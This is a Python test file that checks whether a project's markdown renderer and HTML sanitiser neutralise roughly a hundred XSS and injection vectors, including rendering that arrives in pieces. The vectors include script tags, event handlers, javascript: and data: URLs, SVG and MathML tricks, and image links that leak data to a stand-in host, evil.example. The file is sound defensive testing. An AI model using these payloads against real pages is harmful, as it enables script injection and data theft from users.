import pytest

from bakeoff.render import LiveRendering, render_markdown
from bakeoff.render.sanitiser import clean, clean_rows
from tests.bakeoff.render.safety import assert_safe

VECTORS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img src="http://evil.example/?q=secret">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="http://evil.example/x.svg#a"/></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/x.swf">
<link rel=stylesheet href=http://evil.example/x.css>
<style>@import url(http://evil.example/x.css);</style>
<style>body{background:url(http://evil.example)}</style>
<meta http-equiv="refresh" content="0;url=http://evil.example">
<base href="http://evil.example/">
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<video poster="http://evil.example/p.png"></video>
<audio src=http://evil.example/a.mp3 autoplay></audio>
<details open ontoggle=alert(1)>x</details>
<form action="http://evil.example"><input name=q><button>Go</button></form>
<input autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<div style="position:fixed;inset:0;background:url(http://evil.example)">x</div>
<p id="root" class="card">x</p>
<b onclick=alert(1)>x</b>
<!-- <img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="http://evil.example"?>
<!DOCTYPE html><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<table background="http://evil.example"><tr><td>x</td></tr></table>
<img/src="x"/onerror=alert(1)//
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](&#106;avascript:alert(1))
[x](\x01javascript:alert(1))
[x](<java script:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:http://evil.example/1)
[x](ftp://evil.example/)
[x](//evil.example/)
[x](/\evil.example)
[x](http:/evil.example)
[x](?models=a&prompt=b)
[x](#root)
[x](http://e.example/"onmouseover="alert(1))
[x](http://e.example/ "title\" onmouseover=alert(1)")
[x](http://e.example/ '"><img src=x onerror=alert(1)>')
[x](http://e.example/<img src=x onerror=alert(1)>)
[<img src=x onerror=alert(1)>](http://e.example)
[x]: javascript:alert(1)
![x](http://evil.example/p.png?leak=secret)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x" onerror="alert(1)](http://evil.example/p.png)
![<img src=x onerror=alert(1)>](http://evil.example/p.png)
![![x](http://evil.example/1)](http://evil.example/2)
[![x](http://evil.example/1)](javascript:alert(1))
<javascript:alert(1)>
<http://e.example/"onclick="alert(1)>
<a@b.example"onclick="alert(1)>
```"><script>alert(1)</script>
```python" onload="alert(1)
``` language-python evil
~~~ </code></pre><script>alert(1)</script>
`<script>alert(1)</script>`
`` ` <img src=x onerror=alert(1)> ``
    <script>alert(1)</script>
# <script>alert(1)</script>
- <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
|<img src=x onerror=alert(1)>|\n|---|\n|<script>alert(1)</script>|
| a |\n|:-:" onclick="x|\n| b |
$\href{javascript:alert(1)}{x}$
$\text{<img src=x onerror=alert(1)>}$
$$\unicode{x3c}script\unicode{x3e}$$
\(\text{</math><script>alert(1)</script>}\)
$</math><img src=x onerror=alert(1)>$
```mermaid\ngraph TD; click A "javascript:alert(1)"\n```
```html\n<img src=x onerror=alert(1)>\n```
{{constructor.constructor('alert(1)')()}}
<p data-slot>x</p>
""".strip("\n").splitlines()
HOSTILE = [vector.replace("\\n", "\n").replace("\\x01", "\x01") for vector in VECTORS]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing_and_loads_nothing(text: str) -> None:
    html = render_markdown(text)
    assert_safe(html)
    assert "data-slot" not in html.replace("&lt;p data-slot&gt;", "")


@pytest.mark.parametrize("size", [1, 9])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_while_it_is_written(text: str, size: int) -> None:
    rendering = LiveRendering()
    for start in range(0, len(text), size):
        rendering.feed(text[start : start + size])
        rendering.step()
        assert_safe(rendering.open_html)
        assert_safe(rendering.snapshot()[0])
    rendering.finish()
    assert_safe(rendering.snapshot()[0])


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_inside_lists_tables_and_code(text: str) -> None:
    inside = f"- a\n- {text}\n- b\n\n| a |\n|---|\n| {text} |\n| b |\n\n```html\n{text}\n```\n"
    rendering = LiveRendering()
    rendering.feed(inside)
    rendering.step()
    rendering.finish()
    for code, *rest in rendering.operations:
        if code in "biow":
            assert_safe(rest[0])
    assert_safe(rendering.snapshot()[0])


@pytest.mark.parametrize("html", HOSTILE)
def test_the_sanitiser_alone_lets_no_markup_of_others_through(html: str) -> None:
    # What the parser would have to let slip first: here raw HTML meets the sanitiser itself.
    cleaned = clean(html)
    for forbidden in ("<script", "<img", "<svg", "<style", "<iframe", "onerror=alert(1)>", " id="):
        assert forbidden not in cleaned.lower()


def test_rows_survive_without_their_table() -> None:
    assert (
        clean_rows("<tr><td>a</td><td align='right'>b</td></tr>") == '<tr><td>a<td align="right">b'
    )


def test_rows_cannot_leave_their_table() -> None:
    assert clean_rows("<tr><td>a</td></tr></table><script>x</script>") == "<tr><td>a"
